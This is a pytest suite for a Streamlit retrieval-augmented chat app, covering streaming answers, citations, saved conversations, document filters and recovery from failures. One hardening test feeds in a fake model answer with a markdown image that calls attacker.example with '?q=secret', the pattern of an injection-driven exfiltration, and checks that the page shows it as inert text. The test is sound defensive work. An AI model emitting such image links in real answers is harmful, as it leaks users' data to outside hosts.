"""The chat page, run by Streamlit's AppTest with the real engine (built-in model, tiny knowledge base)."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from streamlit.testing.v1 import AppTest

from rag.config import PROJECT_ROOT
from rag.formatting import safe_markdown
from rag.retrieval import Retriever
from rag.turn import AnswerStream
from tests import fake_ollama
from tests.fake_ollama import ANSWER_PIECES, FakeOllama
from tests.servers import free_port
from ui_common import shared_conversations, shared_store, startup_check

GARDEN = "# Garden\n\nThe tomatoes in the garden are watered every Tuesday by Ana.\n"


def chat_page(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, files: dict[str, str], **env: str) -> AppTest:
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    for name, text in files.items():
        (corpus / name).write_text(text)
    monkeypatch.setenv("RAG_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("RAG_CORPUS_DIR", str(corpus))
    monkeypatch.setenv("OLLAMA_HOST", f"http://127.0.0.1:{free_port()}")  # nothing listens there, by default
    for key, value in env.items():
        monkeypatch.setenv(key, value)
    return new_session()


def new_session() -> AppTest:
    """A browser session of the chat page (a tab, a reload) on the environment as set, run once."""
    at = AppTest.from_file(str(PROJECT_ROOT / "app.py"), default_timeout=240)
    at.run()
    assert not at.exception, at.exception
    return at


@pytest.mark.slow
def test_a_chat_turn_streams_an_answer_with_numbered_sources_and_usage(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    at = chat_page(tmp_path, monkeypatch, {"garden.md": GARDEN})
    banner = at.sidebar.warning[0].value
    assert "Ollama is not reachable" in banner and "ollama pull llama2" in banner
    assert any("1 document · 1 chunk" in c.value for c in at.sidebar.caption)

    at.chat_input[0].set_value("When are the tomatoes watered?").run()
    assert not at.exception, at.exception
    assert [m.name for m in at.chat_message] == ["user", "assistant"]
    assistant = at.chat_message[1]
    assert assistant.markdown[0].value.strip()  # the streamed answer
    source, inspector = assistant.expander
    assert inspector.label == "Prompt sent to the model"
    # The line that answers first, then the document and the score that ranked it (the caption says which).
    line = "“The tomatoes in the garden are watered every Tuesday by Ana\\.”"
    assert source.label.startswith(f"[1] {line} · garden\\.md · ")
    assert " · ranked " in source.label
    said = "the score is the one that ranked them: meaning and keywords fused"
    assert any(said in c.value for c in assistant.caption)
    assert "watered every Tuesday by Ana" in source.html[0].value
    usage = next(c.value for c in assistant.caption if "prompt tokens ·" in c.value)
    assert "embedded · SmolLM2\\-135M\\-Instruct" in usage and "prompt tokens" in usage and "tokens/s" in usage


@pytest.mark.slow
def test_new_conversation_clears_the_history_but_keeps_the_knowledge_base(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    at = chat_page(tmp_path, monkeypatch, {"garden.md": GARDEN})
    at.chat_input[0].set_value("Who waters the tomatoes?").run()
    assert len(at.chat_message) == 2
    next(b for b in at.sidebar.button if b.label == "New conversation").click().run()
    assert len(at.chat_message) == 0
    assert any("1 document · 1 chunk" in c.value for c in at.sidebar.caption)


@pytest.mark.slow
def test_a_backend_failure_keeps_the_question_says_why_and_offers_retry(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    at = chat_page(tmp_path, monkeypatch, {"garden.md": GARDEN}, RAG_BACKEND="ollama")
    at.chat_input[0].set_value("When are the tomatoes watered?").run()
    assert not at.exception, at.exception
    assert [m.name for m in at.chat_message] == ["user", "assistant"]
    assert at.chat_message[0].text[0].value == "When are the tomatoes watered?"
    error = at.chat_message[1].error[0].value
    assert "Ollama is not running at `http://127.0.0.1:" in error and "ollama serve" in error  # URLs as code
    retry = button(at.chat_message[1], "Retry")
    assert retry.label == "Retry"
    retry.click().run()  # still down: asked again, fails again; the first attempt stays on record
    assert [m.name for m in at.chat_message] == ["user", "assistant", "user", "assistant"]
    assert at.chat_message[2].text[0].value == "When are the tomatoes watered?"
    assert "ollama serve" in at.chat_message[3].error[0].value


@pytest.mark.slow
def test_an_empty_knowledge_base_gets_a_plain_answer_without_citations(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    at = chat_page(tmp_path, monkeypatch, {})
    at.chat_input[0].set_value("What is in my documents?").run()
    assistant = at.chat_message[1]
    assert assistant.markdown[0].value.startswith("Your knowledge base is empty")
    assert not assistant.expander
    assert "model was not asked" in assistant.caption[-1].value


@pytest.mark.slow
def test_an_unrelated_question_is_declined_plainly(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    at = chat_page(tmp_path, monkeypatch, {"garden.md": GARDEN})
    at.chat_input[0].set_value("What is the exchange rate of the Swiss franc to the yen?").run()
    assistant = at.chat_message[1]
    assert assistant.markdown[0].value.startswith("I could not find anything about this in your documents")
    assert not assistant.expander


@pytest.mark.slow
def test_an_answer_broken_mid_stream_keeps_the_partial_text_marked(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with FakeOllama(models=["llama2:latest"]) as server:
        server.mode = "break-mid-stream"
        at = chat_page(tmp_path, monkeypatch, {"garden.md": GARDEN}, OLLAMA_HOST=server.host)
        assert "Ollama at" in at.sidebar.info[0].value and "with llama2" in at.sidebar.info[0].value
        at.chat_input[0].set_value("When are the tomatoes watered?").run()
        assert not at.exception, at.exception
        assistant = at.chat_message[1]
        assert assistant.markdown[0].value.strip() == "".join(ANSWER_PIECES[:2]).strip()  # arrived before the break
        assert "broke during the answer" in assistant.error[0].value
        assert button(assistant, "Retry").label == "Retry"

        server.mode = "ok"
        button(assistant, "Retry").click().run()
        assert [m.name for m in at.chat_message] == ["user", "assistant", "user", "assistant"]
        assert at.chat_message[3].markdown[0].value.strip() == safe_markdown("".join(ANSWER_PIECES)).strip()
        assert not at.chat_message[3].error
        # The failed attempt is not part of what the model is told: only the completed exchange is history.
        last_prompt = server.requests[-1][1]["prompt"]
        assert last_prompt.count("When are the tomatoes watered?") == 1


@pytest.mark.slow
def test_conversations_are_saved_listed_reopened_renamed_exported_and_deleted(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    at = chat_page(tmp_path, monkeypatch, {"garden.md": GARDEN})
    at.chat_input[0].set_value("When are the tomatoes watered?").run()
    assert not at.exception, at.exception
    answer = at.chat_message[1]
    inspector = next(e for e in answer.expander if e.label == "Prompt sent to the model")
    prompt = inspector.code[0].value
    assert "<|im_start|>system" in prompt and "[1] garden.md" in prompt and "When are the tomatoes watered?" in prompt
    assert "prompt tokens +" in inspector.caption[0].value

    # A restarted app (a new session on the same data folder) lists the conversation and reopens it.
    again = new_session()
    titles = [b.label for b in again.sidebar.button]
    assert "When are the tomatoes watered?" in titles
    assert len(again.chat_message) == 0  # a new tab starts a new conversation
    next(b for b in again.sidebar.button if b.label == "When are the tomatoes watered?").click().run()
    assert [m.name for m in again.chat_message] == ["user", "assistant"]

    next(t for t in again.sidebar.text_input if t.label == "Title").set_value("Tomato schedule")
    next(b for b in again.sidebar.button if b.label == "Rename").click().run()
    assert "Tomato schedule" in [b.label for b in again.sidebar.button]
    assert [getattr(d, "label", None) for d in again.sidebar.get("download_button")] == [
        "Export as Markdown",
        "Export as JSON",
    ]

    next(b for b in again.sidebar.button if b.label == "Delete conversation").click().run()
    next(b for b in again.sidebar.button if b.label == "Yes, delete").click().run()
    assert "Tomato schedule" not in [b.label for b in again.sidebar.button]
    assert len(again.chat_message) == 0


@pytest.mark.slow
def test_two_tabs_keep_their_own_conversations_and_share_one_retriever(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, retrievers_built: list[Retriever]
) -> None:
    first = chat_page(tmp_path, monkeypatch, {"garden.md": GARDEN})
    second = new_session()
    first.chat_input[0].set_value("Who waters the tomatoes?").run()
    second.chat_input[0].set_value("On which day are the tomatoes watered?").run()
    assert first.chat_message[0].text[0].value == "Who waters the tomatoes?"
    assert second.chat_message[0].text[0].value == "On which day are the tomatoes watered?"
    assert len(first.chat_message) == len(second.chat_message) == 2
    titles = [b.label for b in second.sidebar.button]
    assert "Who waters the tomatoes?" in titles and "On which day are the tomatoes watered?" in titles
    assert len(retrievers_built) == 1  # four runs, two sessions, two questions: one retriever


ALLOTMENT = "# Allotment\n\nThe tomatoes at the allotment are watered every Friday by Ben.\n"


def button(block: Any, label: str) -> Any:
    """The button of a chat message (or any block) with this label."""
    return next(b for b in block.button if b.label == label)


def source_labels(message: object) -> list[str]:
    return [e.label for e in message.expander if e.label.startswith("[")]  # type: ignore[attr-defined]


@pytest.mark.slow
def test_a_conversation_limited_to_one_document_cites_only_it_and_keeps_the_choice(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    at = chat_page(tmp_path, monkeypatch, {"garden.md": GARDEN, "allotment.md": ALLOTMENT})
    allotment = shared_store(str(tmp_path / "data")).find("allotment.md")
    assert allotment is not None
    selector = at.multiselect[0]
    assert selector.label == "Search only these documents"
    assert sorted(selector.options) == ["allotment.md", "garden.md"] and selector.value == []
    selector.select(allotment.doc_id).run()  # chosen before the first question creates the conversation

    at.chat_input[0].set_value("When are the tomatoes watered?").run()
    assert not at.exception, at.exception
    answer = at.chat_message[1]
    labels = source_labels(answer)
    assert labels and all(
        label.startswith(f"[{i}] ") and " · allotment\\.md · " in label for i, label in enumerate(labels, 1)
    )
    assert "searched only: allotment\\.md" in [c.value for c in answer.caption]
    assert at.multiselect[0].values == ["allotment.md"]

    # Another tab (or a restart) starts a new conversation searching everything; reopening restores the choice.
    again = new_session()
    assert again.multiselect[0].value == []
    next(b for b in again.sidebar.button if b.label == "When are the tomatoes watered?").click().run()
    assert again.multiselect[0].values == ["allotment.md"]
    assert "searched only: allotment\\.md" in [c.value for c in again.chat_message[1].caption]
    next(b for b in again.sidebar.button if b.label == "New conversation").click().run()
    assert again.multiselect[0].value == []


@pytest.mark.slow
def test_a_choice_made_in_another_tab_is_shown_not_overwritten(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    at = chat_page(tmp_path, monkeypatch, {"garden.md": GARDEN, "allotment.md": ALLOTMENT})
    store = shared_store(str(tmp_path / "data"))
    garden, allotment = store.find("garden.md"), store.find("allotment.md")
    assert garden is not None and allotment is not None
    at.chat_input[0].set_value("When are the tomatoes watered?").run()  # a conversation searching everything
    other = new_session()  # a second tab opens the same conversation
    next(b for b in other.sidebar.button if b.label == "When are the tomatoes watered?").click().run()
    assert other.multiselect[0].value == []

    at.multiselect[0].select(allotment.doc_id).run()  # the first tab limits it to the allotment
    other.run()  # the second tab, still showing "all documents", runs again (any click does that)
    assert not other.exception, other.exception
    assert other.multiselect[0].values == ["allotment.md"]  # it shows the new choice …
    conversations = shared_conversations(str(tmp_path / "data"))
    saved = conversations.get(at.session_state["conversation_id"])
    assert [d.name for d in saved.doc_filter] == ["allotment.md"]  # … and did not undo it

    other.multiselect[0].set_value([garden.doc_id]).run()  # and a change there reaches the first tab
    at.run()
    assert at.multiselect[0].values == ["garden.md"]
    at.chat_input[0].set_value("Who waters the tomatoes?").run()
    assert "searched only: garden\\.md" in [c.value for c in at.chat_message[3].caption]


@pytest.mark.slow
def test_a_deleted_document_drops_out_of_the_selection_with_a_note(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    at = chat_page(tmp_path, monkeypatch, {"garden.md": GARDEN, "allotment.md": ALLOTMENT})
    store = shared_store(str(tmp_path / "data"))  # the app's own (process-wide cached) store
    garden, allotment = store.find("garden.md"), store.find("allotment.md")
    assert garden is not None and allotment is not None
    at.multiselect[0].set_value([garden.doc_id, allotment.doc_id]).run()
    at.chat_input[0].set_value("When are the tomatoes watered?").run()
    assert "searched only: garden\\.md, allotment\\.md" in [c.value for c in at.chat_message[1].caption]

    store.delete_document(allotment.doc_id)  # e.g. on the Documents page, in another tab
    at.run()
    assert not at.exception, at.exception
    note = at.main.info[0].value
    assert "No longer in your knowledge base" in note and "allotment\\.md" in note
    assert at.multiselect[0].values == ["garden.md"]
    assert at.multiselect[0].options == ["garden.md"]

    at.chat_input[0].set_value("Who waters the tomatoes?").run()
    assert not at.exception, at.exception
    assert not at.main.info  # said once; the choice is saved without it
    answer = at.chat_message[3]
    labels = source_labels(answer)
    assert labels and all("garden\\.md" in label for label in labels)
    assert "searched only: garden\\.md" in [c.value for c in answer.caption]
    # The earlier answer still says what it searched then.
    assert "searched only: garden\\.md, allotment\\.md" in [c.value for c in at.chat_message[1].caption]

    again = new_session()
    next(b for b in again.sidebar.button if b.label == "When are the tomatoes watered?").click().run()
    assert again.multiselect[0].values == ["garden.md"] and not again.main.info


# -- Hardening: nothing leaks, every failure is a message, partial answers are kept ----------------------

HOSTILE_ANSWER = ["Sure. ", "![](https://attacker.example/?q=secret) ", "The tomatoes ", "are watered [1]."]


@pytest.mark.slow
def test_a_remote_image_in_an_answer_is_shown_as_text_not_loaded(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(fake_ollama, "ANSWER_PIECES", HOSTILE_ANSWER)  # what the model "was told" to write
    with FakeOllama(models=["llama2:latest"]) as server:
        at = chat_page(tmp_path, monkeypatch, {"garden.md": GARDEN}, OLLAMA_HOST=server.host)
        at.chat_input[0].set_value("When are the tomatoes watered?").run()
        assert not at.exception, at.exception
    assistant = at.chat_message[1]
    shown = "\n".join(m.value for m in assistant.markdown)
    assert "image from `https://attacker.example/?q=secret` — not loaded" in shown
    assert "![" not in shown.replace("\\[", "")  # no image syntax left for the browser to load
    assert "\\[1\\]" in shown  # the citation reads [1]
    assert not assistant.get("imgs") and not at.get("imgs")


@pytest.mark.slow
def test_a_rerun_during_the_stream_keeps_the_question_and_the_partial_answer(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from streamlit.runtime.scriptrunner_utils.exceptions import RerunException
    from streamlit.runtime.scriptrunner_utils.script_requests import RerunData

    real_iter = AnswerStream.__iter__

    def clicked_away(self: AnswerStream) -> Iterator[str]:
        """A click elsewhere while the answer streams: Streamlit raises its rerun inside the stream."""
        for i, piece in enumerate(real_iter(self)):
            if i == 2:
                raise RerunException(RerunData())
            yield piece

    with FakeOllama(models=["llama2:latest"]) as server:
        at = chat_page(tmp_path, monkeypatch, {"garden.md": GARDEN}, OLLAMA_HOST=server.host)
        monkeypatch.setattr(AnswerStream, "__iter__", clicked_away)
        at.chat_input[0].set_value("When are the tomatoes watered?").run()
        assert not at.exception, at.exception
    assert [m.name for m in at.chat_message] == ["user", "assistant"]  # the rerun shows the saved turn
    assert at.chat_message[0].text[0].value == "When are the tomatoes watered?"
    assistant = at.chat_message[1]
    assert assistant.markdown[0].value.strip() == "".join(ANSWER_PIECES[:2]).strip()
    assert "stopped when the page was used before the answer finished" in assistant.error[0].value
    assert button(assistant, "Retry").label == "Retry"
    conversation = shared_conversations(str(tmp_path / "data")).get(at.session_state["conversation_id"])
    assert [(m.role, m.content) for m in conversation.messages] == [
        ("user", "When are the tomatoes watered?"),
        ("assistant", "".join(ANSWER_PIECES[:2]).strip()),
    ]


@pytest.mark.slow
def test_renaming_to_an_empty_title_says_so_and_keeps_the_old_one(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    at = chat_page(tmp_path, monkeypatch, {}, RAG_BACKEND="embedded")
    at.chat_input[0].set_value("What is in my documents?").run()
    next(t for t in at.sidebar.text_input if t.label == "Title").set_value("   ")
    next(b for b in at.sidebar.button if b.label == "Rename").click().run()
    assert not at.exception, at.exception
    assert "title cannot be empty" in at.sidebar.error[0].value
    assert "What is in my documents?" in [b.label for b in at.sidebar.button]


@pytest.mark.slow
def test_a_conversation_deleted_in_another_tab_says_so_and_starts_a_new_one(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    at = chat_page(tmp_path, monkeypatch, {}, RAG_BACKEND="embedded")
    at.chat_input[0].set_value("What is in my documents?").run()
    shared_conversations(str(tmp_path / "data")).delete(at.session_state["conversation_id"])  # the other tab
    at.run()
    assert not at.exception, at.exception
    assert "may have been deleted in another tab" in at.main.warning[0].value
    assert len(at.chat_message) == 0
    at.chat_input[0].set_value("What is in my documents?").run()  # and asking goes on, in a new conversation
    assert not at.exception, at.exception
    assert [m.name for m in at.chat_message] == ["user", "assistant"]


@pytest.mark.slow
def test_an_engine_that_cannot_start_shows_what_to_fix(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("RAG_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("OLLAMA_HOST", "ftp://10.0.0.5:11434")
    at = new_session()
    message = at.error[0].value
    assert "is not an http(s) URL" in message and "OLLAMA_HOST" in message
    assert any("Settings page" in c.value for c in at.caption)
    assert not at.chat_input  # the chat page does not run without its engine
    # The Settings page still opens and says it once; the variable is the environment's, so no form to save.
    at.switch_page("pages/settings.py").run()
    assert not at.exception, at.exception
    assert [e.value for e in at.error] == [message]
    assert "Save settings" not in [b.label for b in at.button]


@pytest.mark.slow
def test_a_model_on_another_machine_is_named_in_the_sidebar(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    at = chat_page(tmp_path, monkeypatch, {}, RAG_BACKEND="ollama", OLLAMA_HOST="http://10.0.0.5:11434")
    warning = at.sidebar.warning[0].value
    assert "your questions and passages are sent to `http://10.0.0.5:11434`" in warning
    (tmp_path / "local").mkdir()
    local = chat_page(tmp_path / "local", monkeypatch, {}, RAG_BACKEND="ollama", OLLAMA_HOST="http://localhost:1")
    assert not local.sidebar.warning


@pytest.mark.slow
def test_a_locked_database_is_a_message_not_a_trace(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import sqlite3

    from rag.conversations import ConversationStore

    def locked(*args: object, **kwargs: object) -> None:
        raise sqlite3.OperationalError("database is locked")

    at = chat_page(tmp_path, monkeypatch, {}, RAG_BACKEND="embedded")
    monkeypatch.setattr(ConversationStore, "list", locked)  # e.g. another program holding the write lock
    at.run()
    assert not at.exception, at.exception
    message = at.error[0].value
    assert "Something went wrong while showing the conversation" in message and "database is locked" in message
    assert "Reload the page" in message


def cut_in_half(path: Path) -> None:
    path.write_bytes(path.read_bytes()[: path.stat().st_size // 2])  # as a bad copy or a crash of the disk leaves it


def scribbled(path: Path) -> None:
    with path.open("r+b") as f:
        f.write(b"\x5a" * 4096)


@pytest.mark.parametrize(
    ("damaged", "said"),
    [
        (lambda data: cut_in_half(data / "registry.sqlite3"), "(registry.sqlite3) is damaged"),
        (lambda data: scribbled(data / "chroma" / "chroma.sqlite3"), "/chroma cannot be read"),
    ],
)
def test_a_damaged_knowledge_base_shows_what_is_wrong_and_the_command_instead_of_a_trace(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, damaged: Callable[[Path], None], said: str
) -> None:
    chat_page(tmp_path, monkeypatch, {"garden.md": GARDEN})
    shared_store(str(tmp_path / "data")).close()  # the app stops
    shared_store.clear()
    startup_check.clear()
    damaged(tmp_path / "data")
    again = new_session()
    [shown] = [e.value for e in again.error]
    assert said in shown  # what is wrong
    assert "`python -m rag check --repair`" in shown  # and the command, as code


def test_a_dropped_keyword_index_is_named_in_the_sidebar_with_the_command(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import sqlite3

    chat_page(tmp_path, monkeypatch, {"garden.md": GARDEN})
    shared_store(str(tmp_path / "data")).close()
    shared_store.clear()
    startup_check.clear()
    with sqlite3.connect(tmp_path / "data" / "registry.sqlite3") as db:
        db.execute("DROP TABLE chunk_text")
    again = new_session()
    warning = next(w.value for w in again.sidebar.warning if "inconsistent" in w.value)
    assert "1 problem found when the app started: keyword rows missing" in warning
    assert "`python -m rag check --repair`" in warning


@contextmanager
def garden_chosen(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[AppTest, Any]]:
    """The chat page answered by a fake Ollama at the wire (quick, and it reports its timings, so the speed is
    measured), its conversation limited to garden.md (yielded with the page, as its document record)."""
    monkeypatch.setattr(fake_ollama, "ANSWER_PIECES", ["- tomatoes ", "(Tuesday, Ana)"])
    with FakeOllama(models=["llama2:latest"]) as server:
        at = chat_page(tmp_path, monkeypatch, {"garden.md": GARDEN, "allotment.md": ALLOTMENT}, OLLAMA_HOST=server.host)
        garden = shared_store(str(tmp_path / "data")).find("garden.md")
        assert garden is not None
        at.multiselect[0].select(garden.doc_id).run()
        yield at, garden


@pytest.mark.slow
def test_a_whole_document_question_is_suggested_then_read_part_by_part_with_its_cost_said_first(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with garden_chosen(tmp_path, monkeypatch) as (at, _):
        switch = at.toggle[0]
        assert switch.label == "Read the chosen documents whole" and not switch.value

        # A question about all of a chosen document, asked as usual: the app offers to read it whole.
        at.chat_input[0].set_value("List every vegetable in the garden.").run()
        assert not at.exception, at.exception
        assert "which the best few passages cannot cover" in at.chat_message[1].info[0].value
        button(at.chat_message[1], "Answer from the whole documents").click().run()
        assert not at.exception, at.exception
        answer = at.chat_message[3]
        assert answer.markdown[0].value == "- tomatoes (Tuesday, Ana)\n\n(from garden.md)"  # the one part's note
        assert "read whole: garden\\.md" in [c.value for c in answer.caption]
        assert "The parts read, in order" in " ".join(c.value for c in answer.caption)
        assert [e.label for e in answer.expander if e.label.startswith("[")] == ["[1] garden\\.md"]

        # The switch, on: what a question will cost is said before one is asked.
        at.toggle[0].set_value(True).run()
        said = " ".join(c.value for c in at.main.caption)
        assert "Each question reads 1 parts: 1 model calls (1 to read, 0 to combine)" in said
        assert "measured speed" in said


WHOLE = "Read the chosen documents whole"


def switch(at: AppTest) -> Any:
    """The whole-document switch (found by its label), or None when it is not shown."""
    return next((t for t in at.toggle if t.label == WHOLE), None)


def reopened(title: str) -> AppTest:
    """A fresh session on the same data folder (what a reload or another browser makes), the conversation opened."""
    again = new_session()
    assert switch(again) is None  # a new conversation chooses no documents, so there is nothing to read whole
    next(b for b in again.sidebar.button if b.label == title).click().run()
    assert not again.exception, again.exception
    return again


@pytest.mark.slow
def test_the_whole_document_switch_is_kept_with_the_conversation_after_a_reload(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with garden_chosen(tmp_path, monkeypatch) as (at, garden):
        at.chat_input[0].set_value("When are the tomatoes watered?").run()  # searched: the switch was off
        assert not at.exception, at.exception
        assert "searched only: garden\\.md" in [c.value for c in at.chat_message[1].caption]
        assert switch(at).value is False
        switch(at).set_value(True).run()  # switched on in the conversation: saved at once
        assert not at.exception, at.exception
        assert switch(at).value is True

        # A reload: the conversation reopened reads its chosen document whole, and the sidebar marks it.
        again = reopened("When are the tomatoes watered?")
        assert again.multiselect[0].values == ["garden.md"]
        assert switch(again).value is True
        assert "Each question reads 1 parts" in " ".join(c.value for c in again.main.caption)
        listed = next(b for b in again.sidebar.button if b.label == "When are the tomatoes watered?")
        assert listed.proto.icon == ":material/menu_book:" and listed.help == "Reads its chosen documents whole"
        again.chat_input[0].set_value("List every vegetable in the garden.").run()
        assert not again.exception, again.exception
        assert "read whole: garden\\.md" in [c.value for c in again.chat_message[3].caption]

        # Switched off in that session: the next one finds it off, and its questions search again.
        switch(again).set_value(False).run()
        assert not again.exception, again.exception
        third = reopened("When are the tomatoes watered?")
        assert switch(third).value is False
        assert not next(b for b in third.sidebar.button if b.label == "When are the tomatoes watered?").proto.icon

        # A new conversation whose first question reads whole is saved reading whole.
        next(b for b in third.sidebar.button if b.label == "New conversation").click().run()
        third.multiselect[0].select(garden.doc_id).run()
        switch(third).set_value(True).run()
        third.chat_input[0].set_value("What grows in the garden?").run()
        assert not third.exception, third.exception
        assert "read whole: garden\\.md" in [c.value for c in third.chat_message[1].caption]
        assert switch(third).value is True
        assert switch(reopened("What grows in the garden?")).value is True
